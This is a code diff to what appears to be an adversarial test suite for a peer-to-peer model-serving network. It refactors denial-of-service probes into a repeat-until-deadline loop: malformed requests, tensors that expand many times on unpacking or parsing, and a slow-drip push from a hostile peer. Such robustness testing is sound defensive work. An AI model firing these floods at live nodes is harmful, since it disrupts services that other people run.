@@ -22,6 +22,7 @@ from swarm_notebook.errors import SwarmError
 from swarm_notebook.net import protocol, streams, tensors
 from swarm_notebook.net.node import Node
 from swarm_notebook.net.records import ServerInfo, ServerState
+from swarm_notebook.net.stream_server import add_stream_handler
 
 Request, Response = runtime_pb2.ExpertRequest, runtime_pb2.ExpertResponse
 RPCS = (
@@ -146,26 +147,24 @@ async def sessions_of_one_id(target: Target, count: int = 1000) -> Errors:
 
 async def malformed(target: Target, count: int = 35) -> Errors:
     """Requests in which something is wrong, over and over."""
-    hidden, deadline, errors = torch.zeros(1, 2, target.hidden), _deadline(target), Errors()
+    hidden = torch.zeros(1, 2, target.hidden)
     wrong = [
         dict.fromkeys(("states", "inner", "adapter", "push_to"), value)
         for value in (-1, "x", [[]], {"a": b"\xff"}, 1e400)
     ]
-    while not errors or time.monotonic() < deadline:
 
-        async def one(number: int) -> None:
-            stream = await target.open(target.random.choice(RPCS[2:]))
-            slot = target.random.choice([hidden, hidden[..., 1:], hidden.to(torch.int64), None])
-            metadata = target.random.choice(wrong)
-            try:
-                await stream.send(target.request(slot, None, slot, **metadata))
-                await stream.send_end()
-                await stream.receive(Response)
-            finally:
-                stream.abort()
+    async def one(_: int) -> None:
+        stream = await target.open(target.random.choice(RPCS[2:]))
+        slot = target.random.choice([hidden, hidden[..., 1:], hidden.to(torch.int64), None])
+        metadata = target.random.choice(wrong)
+        try:
+            await stream.send(target.request(slot, None, slot, **metadata))
+            await stream.send_end()
+            await stream.receive(Response)
+        finally:
+            stream.abort()
 
-        errors += await _many(count, one, at_once=8)
-    return errors
+    return await _again(target, lambda: _many(count, one, at_once=8))
 
 
 async def unannounced_pushes(target: Target, count: int = 21200) -> Errors:
@@ -199,7 +198,7 @@ async def made_up_peers(target: Target, count: int = 200) -> Errors:
 
 
 async def narrow_rows(target: Target, count: int = 16) -> Errors:
-    """8-bit values in rows of one: forty times their bytes if they were unpacked."""
+    """8-bit values in rows of one: forty times their bytes if they were unpacked; over and over."""
     values = (48 << 20) // 3
     tensor = runtime_pb2.Tensor(
         buffer=bytes(3 * values), size=[values, 1], dtype="float64", compression=tensors.INT8
@@ -208,7 +207,16 @@ async def narrow_rows(target: Target, count: int = 16) -> Errors:
     fits = runtime_pb2.Tensor(
         buffer=bytes(3 * small), size=[small, 1], dtype="float64", compression=tensors.INT8
     )
-    return await _ask(target, [tensor if number % 4 == 0 else fits for number in range(count)])
+    slots = [tensor if number % 4 == 0 else fits for number in range(count)]
+    return await _again(target, lambda: _ask(target, slots))
+
+
+async def _again(target: Target, attack: Callable[[], Awaitable[Errors]]) -> Errors:
+    """An attack over and over, and once at least."""
+    deadline, errors = _deadline(target), await attack()
+    while time.monotonic() < deadline:
+        errors += await attack()
+    return errors
 
 
 async def _ask(target: Target, slots: Sequence[runtime_pb2.Tensor]) -> Errors:
@@ -227,13 +235,17 @@ async def _ask(target: Target, slots: Sequence[runtime_pb2.Tensor]) -> Errors:
 
 
 async def empty_tensors(target: Target, count: int = 8) -> Errors:
-    """Two bytes each, and over seventy when they are parsed."""
+    """Two bytes each, and over seventy when they are parsed; over and over."""
     data = b"\x12\x00" * ((target.frame - 9) // 2)
     frame = b"\x00" + len(data).to_bytes(8, "big") + data
-    opened = [await target.open(RPCS[number % 4]) for number in range(count)]
-    for stream in opened:
-        stream._writer.write(frame)
-    return await _hold(target, opened)
+
+    async def attack() -> Errors:
+        opened = [await target.open(RPCS[number % 4]) for number in range(count)]
+        for stream in opened:
+            stream._writer.write(frame)
+        return await _hold(target, opened)
+
+    return await _again(target, attack)
 
 
 async def unfinished(target: Target, count: int = 8) -> Errors:
@@ -319,7 +331,7 @@ async def push_to_a_drip(target: Target, address: str) -> Errors:
                 stream._writer.write(bytes(1 << 20))
                 await stream._writer.drain()
 
-    await streams.add_stream_handler(evil.p2p, protocol.RPC_PUSH_STREAM, drip)
+    await add_stream_handler(evil.p2p, protocol.RPC_PUSH_STREAM, drip)
     try:
         stream = await target.open(protocol.RPC_INFERENCE)
         hidden = torch.zeros(1, 1, target.hidden)
